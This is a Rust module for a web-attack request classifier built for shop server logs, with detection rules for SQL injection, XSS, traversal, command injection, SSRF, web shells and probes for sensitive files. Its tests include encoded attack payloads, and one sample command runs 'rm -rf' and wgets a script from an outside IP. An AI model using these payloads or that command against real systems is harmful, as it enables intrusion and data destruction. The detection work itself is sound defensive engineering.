//! Per-request classification: is this one request an attack, and of which family?
//!
//! Pipeline: URL-decode (double, `+`, `%uXXXX`) and lowercase → one Aho-Corasick pass
//! over the decoded target as a prefilter → precise checks (regular expressions,
//! path rules) only for the families the prefilter pointed at. The checks are written
//! against benign shop traffic (`O'Reilly mug`, `select box`, `<b>new</b>`, `../ sale`,
//! Japanese queries) as much as against attacks.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use regex::bytes::{Regex, RegexSet};
use serde::Serialize;

/// Attack families reported in `attack.request` evidence (`family`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, PartialOrd, Ord)]
#[serde(rename_all = "snake_case")]
pub enum Family {
    Sqli,
    Xss,
    Traversal,
    Cmdi,
    SensitiveFile,
    AdminProbe,
    ExploitPath,
    Scanner,
    Webshell,
}

impl Family {
    pub const ALL: [Family; 9] = [
        Family::Sqli,
        Family::Xss,
        Family::Traversal,
        Family::Cmdi,
        Family::SensitiveFile,
        Family::AdminProbe,
        Family::ExploitPath,
        Family::Scanner,
        Family::Webshell,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Family::Sqli => "sqli",
            Family::Xss => "xss",
            Family::Traversal => "traversal",
            Family::Cmdi => "cmdi",
            Family::SensitiveFile => "sensitive_file",
            Family::AdminProbe => "admin_probe",
            Family::ExploitPath => "exploit_path",
            Family::Scanner => "scanner",
            Family::Webshell => "webshell",
        }
    }

    pub fn bit(self) -> u16 {
        1 << (self as u16)
    }
}

/// What the classifier found in one request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Hit {
    pub family: Family,
    /// A short stable rule name for evidence (`sqli.union_select`, …).
    pub rule: &'static str,
    /// Commodity internet-wide probes (WordPress login, router exploits, `/.env`…) that
    /// every server sees; they do not make an address part of a targeted campaign.
    pub commodity: bool,
}

// Prefilter groups: each needle maps to a bitmask of families to check precisely.
const SQ: u16 = 1;
const XS: u16 = 2;
const TR: u16 = 4;
const CM: u16 = 8;

const NEEDLES: &[(&str, u16)] = &[
    ("union", SQ),
    ("select", SQ),
    ("sleep", SQ | CM),
    ("benchmark", SQ),
    ("extractvalue", SQ),
    ("updatexml", SQ),
    ("waitfor", SQ),
    ("information_schema", SQ),
    ("load_file", SQ),
    ("outfile", SQ),
    ("@@", SQ),
    ("xp_cmdshell", SQ),
    ("'", SQ | XS),
    ("\"", SQ | XS),
    (")", SQ),
    ("--", SQ),
    ("/*", SQ),
    ("#", SQ),
    ("order by", SQ),
    ("<", XS),
    ("javascript:", XS),
    ("vbscript:", XS),
    ("onerror", XS),
    ("onload", XS),
    ("alert", XS),
    ("confirm", XS),
    ("prompt", XS),
    ("document.", XS),
    ("{{", XS | CM),
    ("${", CM),
    ("..", TR),
    ("etc/", TR),
    ("win.ini", TR),
    ("boot.ini", TR),
    ("://", TR | CM),
    ("\0", TR),
    ("proc/self", TR),
    (";", CM | SQ),
    ("|", CM | SQ),
    ("`", CM),
    ("$(", CM),
    ("&&", CM),
    ("169.254.169.254", CM),
    ("[$", SQ),
    ("$_", CM),
];

/// User-agent substrings of attack tools and vulnerability scanners.
const SCANNER_UAS: &[&str] = &[
    "nikto",
    "sqlmap",
    "nmap",
    "masscan",
    "zgrab",
    "wpscan",
    "dirbuster",
    "gobuster",
    "nuclei",
    "acunetix",
    "nessus",
    "openvas",
    "w3af",
    "ffuf",
    "feroxbuster",
    "wfuzz",
    "zmeu",
    "morfeus",
    "havij",
    "netsparker",
    "jaeles",
    "dirsearch",
    "whatweb",
    "censysinspect",
    "l9explore",
    "fuzz faster",
];

/// UAs of generic HTTP libraries: not an attack by themselves, but a browser does not
/// send them. Used for behaviour (untargeted automation), not as a signature.
const TOOL_UAS: &[&str] = &[
    "python-requests",
    "python-urllib",
    "go-http-client",
    "curl/",
    "wget/",
    "libwww-perl",
    "java/",
    "okhttp",
    "aiohttp",
    "httpclient",
    "zgrab",
    "masscan",
    "scrapy",
    "node-fetch",
    "axios/",
];

/// Paths no shop serves to the public: exploit paths of EC-CUBE 2/3/4, Magento,
/// WordPress/WooCommerce and common frameworks. `(needle, commodity)`.
const EXPLOIT_PATHS: &[(&str, bool)] = &[
    // EC-CUBE
    ("/install.php", false),
    ("/html/install", false),
    ("/install/", false),
    ("/data/smarty/", false),
    ("/data/config/config.php", false),
    ("/html/user_data/packages/", false),
    ("/admin/store/plugin/api", false),
    ("/_profiler", false),
    ("/_wdt/", false),
    ("/app_dev.php", false),
    ("/index_dev.php", false),
    ("xdebug_session_start", false),
    // Magento
    ("/downloader/", false),
    ("/magmi/", false),
    ("cms_wysiwyg/directive", false),
    ("/app/etc/local.xml", false),
    ("/app/etc/env.php", false),
    ("/rest/v1/integration/admin/token", false),
    // WordPress / WooCommerce
    ("/wp-content/plugins/", true),
    ("/wp-file-manager", true),
    ("/wp-includes/wlwmanifest.xml", true),
    ("/xmlrpc.php", true),
    ("/wp-json/wp/v2/users", true),
    ("route=extension/payment", false),
    // frameworks / appliances
    ("/vendor/phpunit/", true),
    ("eval-stdin.php", true),
    ("invokefunction", true),
    ("call_user_func_array", true),
    ("/_ignition/execute-solution", true),
    ("/cgi-bin/", true),
    ("/boaform/", true),
    ("/gponform/", true),
    ("/hnap1", true),
    ("/actuator/", true),
    ("/solr/admin", true),
    ("/owa/auth", true),
    ("/remote/login", true),
    ("/manager/html", true),
    ("/telescope/requests", true),
    ("/autodiscover/autodiscover.xml", true),
    ("/ecp/", true),
    ("/setup.cgi", true),
    ("/shell?", true),
];

/// First path segments that are admin consoles somewhere (probed when they 404 here).
const ADMIN_WORDS: &[&str] = &[
    "admin",
    "administrator",
    "admin1",
    "admin2",
    "admin123",
    "admin_panel",
    "adminpanel",
    "admincp",
    "admin-console",
    "adm",
    "manage",
    "management",
    "manager",
    "kanri",
    "control",
    "controlpanel",
    "cpanel",
    "backend",
    "backoffice",
    "siteadmin",
    "webadmin",
    "sysadmin",
    "cms",
    "eccube_admin",
    "shop-admin",
    "shopadmin",
    "ec-admin",
    "mgr",
    "staff",
    "console",
    "phpmyadmin",
    "pma",
    "myadmin",
    "mysqladmin",
    "wp-admin",
    "wp-login.php",
    "panel",
    "dashboard",
    "user/login",
];

/// Well-known shell file names (a 2xx on one of these is a live web shell).
const SHELL_NAMES: &[&str] = &[
    "c99",
    "r57",
    "wso",
    "b374k",
    "alfa",
    "shell",
    "cmd",
    "webshell",
    "up",
    "upload",
    "uploader",
    "filesman",
    "indoxploit",
    "mini",
];

/// Directories that hold uploads: a PHP file there is a web shell.
const UPLOAD_DIRS: &[&str] = &[
    "/html/user_data/",
    "/html/upload/",
    "/user_data/",
    "/upload/save_image/",
    "/wp-content/uploads/",
    "/pub/media/",
    "/media/",
    "/uploads/",
    "/files/",
    "/images/",
    "/img/",
];

/// The classifier. Build once, share read-only.
pub struct Classifier {
    prefilter: AhoCorasick,
    groups: Vec<u16>,
    ua_scanner: AhoCorasick,
    ua_tool: AhoCorasick,
    exploit: AhoCorasick,
    sqli: RegexSet,
    xss: RegexSet,
    traversal: RegexSet,
    cmdi: RegexSet,
    ssrf: Regex,
    comments: Regex,
}

const SQLI_RULES: &[&str] = &[
    r"union(\s|\(|all|distinct)+select\b",
    r"\b(sleep|benchmark|pg_sleep|extractvalue|updatexml|load_file)\s*\(",
    r"waitfor\s+delay\b",
    r"information_schema\b",
    r"@@(version|datadir|hostname)",
    r"into\s+(out|dump)file\b",
    r"xp_cmdshell",
    r#"['")]\s*(or|and|\|\||&&|xor)\s*\(?\s*['"]?\s*[\w]+\s*['"]?\s*(=|<|>|like\b|is\b|between\b)"#,
    r#"['")]\s*(--|#|/\*|;)"#,
    r"\border\s+by\s+\d+\s*(--|#|/\*)",
    r#"[\d'")]\s*;\s*(--|#|select\b|insert\b|update\b|delete\b|drop\b|waitfor\b|exec\b|declare\b|shutdown\b)"#,
    r"\b(or|and)\s+\(?\s*\d+\s*=\s*\d+\s*\)?\s*(--|#|$)",
    r"\)\s*(or|and)\s*\(\s*\d+\s*=\s*\d+",
    r"(concat|char|chr)\s*\(\s*(0x[0-9a-f]+|\d+)\s*,",
    // NoSQL (MongoDB) operator injected through a parameter name: `u_id[$ne]=`.
    r"\[\s*\$(ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|not|or|and|nor|expr)\s*\]",
];

const XSS_RULES: &[&str] = &[
    r"<\s*script\b",
    r"\b(java|vb)script\s*:",
    r"<\s*(svg|iframe|img|body|object|embed|video|audio|details|math|input|marquee|frame|form|base|link|style|isindex|xss)\b[^>]*",
    r"\bon(error|load|mouseover|focus|toggle|begin|click|start|animationstart)\s*=",
    r"\b(alert|confirm|prompt)\s*[(`]",
    r"document\s*\.\s*(cookie|domain|location|write)",
];

const TRAVERSAL_RULES: &[&str] = &[
    r"(\.\.[/\\]){2,}",
    r"\.\.\.\.//",
    r"(^|[/\\=])etc[/\\](passwd|shadow|hosts|group|issue)\b",
    r"\b(win|boot|system)\.ini\b",
    r"proc[/\\]self[/\\]",
    r"\b(php|file|data|expect|phar|zip|glob|zlib)://",
    r"\x00",
];

const CMDI_RULES: &[&str] = &[
    r"(;|\||&&|\$\(|`)\s*(cat|id|ls|pwd|uname|whoami|wget|curl|sleep|ping|nc|ncat|bash|sh|rm|chmod|perl|python\d?|php|busybox|nslookup|tftp|cd|echo|ifconfig|netstat)(\s|$|;|\||`|\)|/)",
    r"/bin/(ba|z|da)?sh\b",
    r"\$\{\s*\d+\s*[*+]\s*\d+\s*\}",
    r"\{\{\s*\d+\s*[*+]\s*\d+\s*\}\}",
    r"\$\{jndi:",
    r"\bcmd\.exe\b|\bpowershell\b",
    // PHP code injection naming a superglobal (`$_SERVER['x']`, `$_COOKIE=`).
    r"\$_(server|get|post|cookie|request|files|env|session)\b",
];

fn build(pats: &[&str]) -> AhoCorasick {
    AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::Standard)
        .build(pats)
        .unwrap_or_else(|e| panic!("static pattern set failed to build: {e}"))
}

fn set(pats: &[&str]) -> RegexSet {
    RegexSet::new(pats).unwrap_or_else(|e| panic!("static regex set failed to build: {e}"))
}

impl Default for Classifier {
    fn default() -> Self {
        Self::new()
    }
}

impl Classifier {
    pub fn new() -> Classifier {
        let pats: Vec<&str> = NEEDLES.iter().map(|(n, _)| *n).collect();
        let groups = NEEDLES.iter().map(|(_, g)| *g).collect();
        let ex: Vec<&str> = EXPLOIT_PATHS.iter().map(|(n, _)| *n).collect();
        Classifier {
            prefilter: build(&pats),
            groups,
            ua_scanner: build(SCANNER_UAS),
            ua_tool: build(TOOL_UAS),
            exploit: build(&ex),
            sqli: set(SQLI_RULES),
            xss: set(XSS_RULES),
            traversal: set(TRAVERSAL_RULES),
            cmdi: set(CMDI_RULES),
            ssrf: Regex::new(
                r"(169\.254\.169\.254|metadata\.google\.internal|=\s*(https?|gopher|dict|ftp)://(127\.|localhost|0\.0\.0\.0|\[::1?\]|10\.|192\.168\.))",
            )
            .unwrap_or_else(|e| panic!("static regex failed to build: {e}")),
            comments: Regex::new(r"/\*.*?\*/").unwrap_or_else(|e| panic!("static regex: {e}")),
        }
    }

    /// Whether the user agent is a known attack tool or vulnerability scanner.
    pub fn scanner_ua(&self, ua: &[u8]) -> bool {
        self.ua_scanner.is_match(ua)
    }

    /// Whether the user agent is a generic HTTP library (or empty / `-`).
    pub fn tool_ua(&self, ua: &[u8]) -> bool {
        ua.is_empty() || ua == b"-" || self.ua_tool.is_match(ua)
    }

    /// Classify one request. `decoded` is the [`crate::decode::normalize`]d target.
    pub fn classify(&self, method: &[u8], decoded: &[u8], status: u16, ua: &[u8]) -> Option<Hit> {
        let (path, query) = match memchr::memchr(b'?', decoded) {
            Some(p) => (&decoded[..p], &decoded[p + 1..]),
            None => (decoded, &b""[..]),
        };
        // 1. Injection families: prefilter, then precise checks.
        let mut want = 0u16;
        for m in self.prefilter.find_overlapping_iter(decoded) {
            want |= self.groups[m.pattern().as_usize()];
        }
        if want & (SQ | XS | TR | CM) != 0 {
            let stripped;
            let subject: &[u8] = if want & SQ != 0 && memchr::memmem::find(decoded, b"/*").is_some()
            {
                stripped = self.comments.replace_all(decoded, &b""[..]).into_owned();
                &stripped
            } else {
                decoded
            };
            if want & TR != 0
                && let Some(r) = first(&self.traversal, decoded)
            {
                return Some(hit(Family::Traversal, TRAVERSAL_NAMES[r], false));
            }
            if want & CM != 0 {
                if let Some(r) = first(&self.cmdi, decoded) {
                    return Some(hit(Family::Cmdi, CMDI_NAMES[r], false));
                }
                if self.ssrf.is_match(decoded) {
                    return Some(hit(Family::ExploitPath, "ssrf.internal_url", false));
                }
            }
            if want & SQ != 0
                && let Some(r) = first(&self.sqli, subject)
            {
                return Some(hit(Family::Sqli, SQLI_NAMES[r], false));
            }
            if want & XS != 0
                && let Some(r) = first(&self.xss, decoded)
            {
                return Some(hit(Family::Xss, XSS_NAMES[r], false));
            }
        }
        // 2. Web shells: PHP files in upload directories, hidden PHP files.
        if let Some(h) = self.webshell(method, path, status) {
            return Some(h);
        }
        // 3. Exploit paths of shop platforms and common software.
        if let Some(m) = self.exploit.find(decoded) {
            let (_, commodity) = EXPLOIT_PATHS[m.pattern().as_usize()];
            return Some(hit(Family::ExploitPath, "exploit.known_path", commodity));
        }
        // 4. Sensitive files: secrets, VCS metadata, backups, dumps, logs, configs.
        if let Some((rule, commodity)) = sensitive(path, status) {
            return Some(hit(Family::SensitiveFile, rule, commodity));
        }
        // 5. Admin consoles that do not exist here.
        if (status == 404 || status == 403 || status == 410)
            && let Some(h) = admin_probe(path)
        {
            return Some(h);
        }
        // 6. Scanner user agents.
        if self.scanner_ua(ua) {
            return Some(hit(Family::Scanner, "scanner.user_agent", true));
        }
        let _ = query;
        None
    }

    fn webshell(&self, method: &[u8], path: &[u8], status: u16) -> Option<Hit> {
        if !path.ends_with(b".php") && !path.ends_with(b".phtml") && !path.ends_with(b".php5") {
            return None;
        }
        let name_start = memchr::memrchr(b'/', path).map(|p| p + 1).unwrap_or(0);
        let name = &path[name_start..];
        let stem = &name[..name.len() - name.iter().rev().take_while(|&&c| c != b'.').count() - 1];
        let in_upload = UPLOAD_DIRS
            .iter()
            .any(|d| memchr::memmem::find(path, d.as_bytes()).is_some());
        let hidden = name.starts_with(b".");
        let ok = (200..400).contains(&status);
        if (in_upload || hidden) && (ok || method == b"POST") {
            return Some(hit(Family::Webshell, "webshell.php_in_upload_dir", false));
        }
        if SHELL_NAMES.iter().any(|s| stem == s.as_bytes()) {
            return Some(if ok {
                hit(Family::Webshell, "webshell.known_name", false)
            } else {
                hit(Family::Scanner, "scanner.shell_name_probe", true)
            });
        }
        if in_upload || hidden {
            return Some(hit(Family::ExploitPath, "exploit.php_in_upload_dir", false));
        }
        None
    }
}

fn hit(family: Family, rule: &'static str, commodity: bool) -> Hit {
    Hit {
        family,
        rule,
        commodity,
    }
}

fn first(set: &RegexSet, s: &[u8]) -> Option<usize> {
    set.matches(s).iter().next()
}

const SQLI_NAMES: &[&str] = &[
    "sqli.union_select",
    "sqli.function",
    "sqli.waitfor",
    "sqli.information_schema",
    "sqli.system_variable",
    "sqli.into_outfile",
    "sqli.xp_cmdshell",
    "sqli.quote_tautology",
    "sqli.quote_comment",
    "sqli.order_by_probe",
    "sqli.stacked_query",
    "sqli.numeric_tautology",
    "sqli.paren_tautology",
    "sqli.char_concat",
    "sqli.nosql_operator",
];
const XSS_NAMES: &[&str] = &[
    "xss.script_tag",
    "xss.js_uri",
    "xss.active_tag",
    "xss.event_handler",
    "xss.dialog_call",
    "xss.dom_access",
];
const TRAVERSAL_NAMES: &[&str] = &[
    "traversal.dotdot",
    "traversal.dotdot_filter_bypass",
    "traversal.etc_file",
    "traversal.windows_ini",
    "traversal.proc_self",
    "traversal.stream_wrapper",
    "traversal.null_byte",
];
const CMDI_NAMES: &[&str] = &[
    "cmdi.shell_command",
    "cmdi.shell_path",
    "cmdi.template_injection",
    "cmdi.template_injection",
    "cmdi.jndi",
    "cmdi.windows_shell",
    "cmdi.php_superglobal",
];

/// Secrets and files that must never be fetched from a web root.
fn sensitive(path: &[u8], status: u16) -> Option<(&'static str, bool)> {
    let seg_start = memchr::memrchr(b'/', path).map(|p| p + 1).unwrap_or(0);
    let name = &path[seg_start..];
    let at_root = seg_start <= 1;
    let has = |n: &[u8]| memchr::memmem::find(path, n).is_some();
    let common = |rule| Some((rule, at_root));
    if name.starts_with(b".env") {
        return common("sensitive.dotenv");
    }
    if has(b"/.git/") || name == b".git" || has(b"/.svn/") || has(b"/.hg/") || has(b"/.bzr/") {
        return common("sensitive.vcs");
    }
    if name.starts_with(b".htaccess")
        || name.starts_with(b".htpasswd")
        || name == b".ds_store"
        || name == b".user.ini"
        || name.starts_with(b".bash_history")
        || has(b"/.aws/")
        || has(b"/.ssh/")
        || has(b"/.docker/")
        || has(b"/.vscode/")
        || has(b"/.idea/")
    {
        return common("sensitive.dotfile");
    }
    if matches!(
        name,
        b"phpinfo.php" | b"info.php" | b"php_info.php" | b"i.php" | b"test_info.php"
    ) {
        return common("sensitive.phpinfo");
    }
    if matches!(
        name,
        b"composer.lock" | b"composer.json" | b"web.config" | b"web.config.old" | b"config.json"
    ) || name.starts_with(b"wp-config")
        || name.starts_with(b"configuration.php")
        || name.starts_with(b"settings.php")
        || name.starts_with(b"config.php.")
        || name.starts_with(b"config.inc.php")
    {
        return common("sensitive.config");
    }
    if has(b"/var/log/")
        || has(b"/app/config/")
        || has(b"/var/cache/")
        || has(b"/app/etc/")
        || name.ends_with(b".yaml") && has(b"/config/")
        || name.ends_with(b".yml") && has(b"/config/")
    {
        return common("sensitive.app_config");
    }
    if name == b"server-status" || name == b"server-info" {
        return Some(("sensitive.server_status", true));
    }
    let ext_dump = [
        &b".sql"[..],
        b".sql.gz",
        b".sql.zip",
        b".sql.bz2",
        b".dump",
        b".mdb",
        b".sqlite",
        b".db",
    ];
    if ext_dump.iter().any(|e| name.ends_with(e)) {
        return common("sensitive.db_dump");
    }
    let ext_bak = [
        &b".bak"[..],
        b".old",
        b".orig",
        b".save",
        b".swp",
        b".swo",
        b"~",
        b".backup",
        b".tmp",
        b".inc",
        b".log",
        b".conf",
        b".ini",
    ];
    if ext_bak.iter().any(|e| name.ends_with(e)) {
        return common("sensitive.backup_file");
    }
    let ext_arch = [
        &b".zip"[..],
        b".tar",
        b".tar.gz",
        b".tgz",
        b".gz",
        b".7z",
        b".rar",
        b".bz2",
    ];
    if ext_arch.iter().any(|e| name.ends_with(e)) {
        let stem = &name[..memchr::memchr(b'.', name).unwrap_or(name.len())];
        let backupish = matches!(
            stem,
            b"backup"
                | b"backups"
                | b"www"
                | b"site"
                | b"shop"
                | b"html"
                | b"htdocs"
                | b"public_html"
                | b"web"
                | b"db"
                | b"database"
                | b"dump"
                | b"data"
                | b"src"
                | b"source"
                | b"old"
                | b"wwwroot"
                | b"archive"
                | b"home"
                | b"app"
                | b"ec"
                | b"eccube"
                | b"magento"
                | b"wordpress"
        );
        if backupish || status == 404 || status == 403 {
            return common("sensitive.archive");
        }
    }
    None
}

fn admin_probe(path: &[u8]) -> Option<Hit> {
    let p = path.strip_prefix(b"/").unwrap_or(path);
    let p = p.strip_suffix(b"/").unwrap_or(p);
    // First segment, or the first two for `user/login`-style entries.
    let first = &p[..memchr::memchr(b'/', p).unwrap_or(p.len())];
    let commodity_words: &[&[u8]] = &[
        b"wp-admin",
        b"wp-login.php",
        b"phpmyadmin",
        b"pma",
        b"myadmin",
        b"mysqladmin",
        b"console",
        b"cpanel",
        b"user/login",
    ];
    for w in ADMIN_WORDS {
        let w = w.as_bytes();
        if first == w || p == w || (w.contains(&b'/') && p.starts_with(w)) {
            let commodity = commodity_words.contains(&w);
            return Some(hit(Family::AdminProbe, "admin.console_probe", commodity));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decode::normalize;

    fn c(target: &str, status: u16) -> Option<Hit> {
        let (mut o, mut t) = (Vec::new(), Vec::new());
        normalize(target.as_bytes(), &mut o, &mut t);
        Classifier::new().classify(b"GET", &o, status, b"Mozilla/5.0")
    }

    fn fam(target: &str, status: u16) -> Option<Family> {
        c(target, status).map(|h| h.family)
    }

    #[test]
    fn benign_noise_is_not_flagged() {
        for q in [
            "O'Reilly mug",
            "kids' socks",
            "\"tea set\"",
            "<3 tote",
            "select box",
            "union jack tshirt",
            "drop earrings",
            "insert coin tee",
            "delete key sticker",
            "order by price",
            "1' x 2 towel",
            "mens & ladies",
            "50% off",
            "script font poster",
            "<b>new</b>",
            "ネコ <かわいい>",
            "「限定」セット",
            "母の日 <ギフト>",
            "Tシャツ \"白\"",
            "セット OR ギフト",
            "お茶 -- 緑茶",
            "cup; saucer",
            "100% cotton",
            "or else mug",
            "1=1 sticker",
            "table runner",
            "alert bell",
            "C'est la vie cap",
            "../ sale",
            "${name} tag",
            "$_ price [$] tag",
            "[$10 off] $_sale",
            "rock & roll | tee",
            "ダウンロード版 (PDF)",
        ] {
            let enc: String = q
                .bytes()
                .map(|b| {
                    if b.is_ascii_alphanumeric() {
                        (b as char).to_string()
                    } else {
                        format!("%{b:02X}")
                    }
                })
                .collect();
            let plus = enc.replace("%20", "+");
            for t in [
                format!("/products/list?category_id=0&name={enc}"),
                format!("/products/list?category_id=0&name={plus}"),
            ] {
                assert_eq!(c(&t, 200), None, "{q} -> {t}");
            }
        }
        for p in [
            "/",
            "/products/detail/12",
            "/products/list?category_id=3&pageno=2",
            "/html/upload/save_image/0412_main2.jpg",
            "/apple-touch-icon-precomposed.png",
            "/favicon.ico",
            "/robots.txt",
            "/sitemap.xml",
            "/mypage/login",
            "/shopping/checkout",
            "/html/template/default/assets/js/eccube.js",
            "/help/about",
            "/products/detail/430",
        ] {
            assert_eq!(c(p, 200), None, "{p}");
            assert_eq!(c(p, 404), None, "{p}");
        }
        // The shop's own admin area is fine when it answers; a 404 there is a probe
        // (staff who logged in are exempted by the engine).
        assert_eq!(c("/admin/order/edit/12", 200), None);
    }

    #[test]
    fn attacks_are_flagged() {
        use Family::*;
        let cases: &[(&str, u16, Family)] = &[
            ("/products/list?name=%27%20OR%20%271%27%3D%271", 200, Sqli),
            (
                "/products/list?name=1+UNION+SELECT+NULL%2Cversion%28%29%2CNULL--",
                200,
                Sqli,
            ),
            (
                "/products/detail/1%2527%2520AND%2520SLEEP%25285%2529--%2520-",
                404,
                Sqli,
            ),
            ("/x?a=1%29%20OR%20%281%3D1", 200, Sqli),
            ("/x?a=1%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--", 200, Sqli),
            ("/x?a=admin%27--", 200, Sqli),
            (
                "/x?a=1%20UN%2F%2A%2A%2FION%20SE%2F%2A%2A%2FLECT%201%2C2%2C3",
                200,
                Sqli,
            ),
            ("/x?a=1%27%20ORDER%20BY%209--%20-", 200, Sqli),
            ("/products/list?orderby=6;--", 404, Sqli),
            (
                "/x?a=%27%7C%7C%28SELECT%20pg_sleep%285%29%29%7C%7C%27",
                200,
                Sqli,
            ),
            (
                "/x?a=%3Cscript%3Ealert(document.domain)%3C/script%3E",
                200,
                Xss,
            ),
            (
                "/x?a=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E",
                200,
                Xss,
            ),
            ("/x?a=%3Csvg%2Fonload%3Dconfirm%281%29%3E", 200, Xss),
            ("/x?a=javascript%3Aalert%281%29", 200, Xss),
            ("/x?a=%27-alert%281%29-%27", 200, Xss),
            ("/x?a=%7B%7B7%2A7%7D%7D", 200, Cmdi),
            ("/x?a=%24%7B7%2A7%7D", 200, Cmdi),
            ("/index.php?page=../../../../etc/passwd", 404, Traversal),
            ("/x?a=..%252f..%252f..%252fetc%252fpasswd", 200, Traversal),
            ("/x?a=....//....//....//etc/passwd", 200, Traversal),
            ("/x?a=%2Fetc%2Fpasswd%2500", 200, Traversal),
            (
                "/x?a=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex.php",
                200,
                Traversal,
            ),
            ("/x?a=..%5C..%5C..%5Cwindows%5Cwin.ini", 200, Traversal),
            ("/x?a=%3Bcat%20%2Fetc%2Fpasswd", 200, Traversal),
            ("/x?a=%7Cid", 200, Cmdi),
            ("/x?a=%24%28sleep%205%29", 200, Cmdi),
            ("/mongo/show.php?u_id[$ne]=2", 200, Sqli),
            ("/?mongoQ=%5b%24lte%5dasdfsd", 200, Sqli),
            ("/?x=$_SERVER['test'];", 200, Cmdi),
            ("/?x=$_%53ERVER['test'];", 200, Cmdi),
            (
                "/x?u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
                200,
                ExploitPath,
            ),
            (
                "/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/x.sh",
                404,
                Cmdi,
            ),
            ("/.env", 404, SensitiveFile),
            ("/shop/.git/config", 404, SensitiveFile),
            ("/backup.zip", 404, SensitiveFile),
            ("/html/db.sql", 404, SensitiveFile),
            ("/old/phpinfo.php", 404, SensitiveFile),
            (
                "/app/config/eccube/packages/doctrine.yaml",
                404,
                SensitiveFile,
            ),
            ("/var/log/prod.log", 404, SensitiveFile),
            ("/src/.htaccess.bak", 404, SensitiveFile),
            ("/kanri/", 404, AdminProbe),
            ("/administrator/", 404, AdminProbe),
            ("/wp-login.php", 404, AdminProbe),
            ("/install.php", 404, ExploitPath),
            ("/magmi/web/magmi.php", 404, ExploitPath),
            (
                "/index.php/admin/Cms_Wysiwyg/directive/index/",
                404,
                ExploitPath,
            ),
            (
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                404,
                ExploitPath,
            ),
            (
                "/html/template/default/../../../app/config/eccube/packages/prod/eccube.yaml",
                404,
                Traversal,
            ),
            ("/html/user_data/.cache_img.php", 200, Webshell),
            ("/upload/shell.php", 200, Webshell),
        ];
        for (t, st, f) in cases {
            assert_eq!(fam(t, *st), Some(*f), "{t}");
        }
        assert_eq!(fam("/upload/shell.php", 404), Some(Scanner));
        let ua = b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)";
        let k = Classifier::new();
        assert_eq!(
            k.classify(b"GET", b"/index.php", 404, ua).map(|h| h.family),
            Some(Scanner)
        );
        assert!(k.tool_ua(b"python-requests/2.31.0"));
        assert!(!k.tool_ua(b"Mozilla/5.0 (iPhone)"));
    }
}
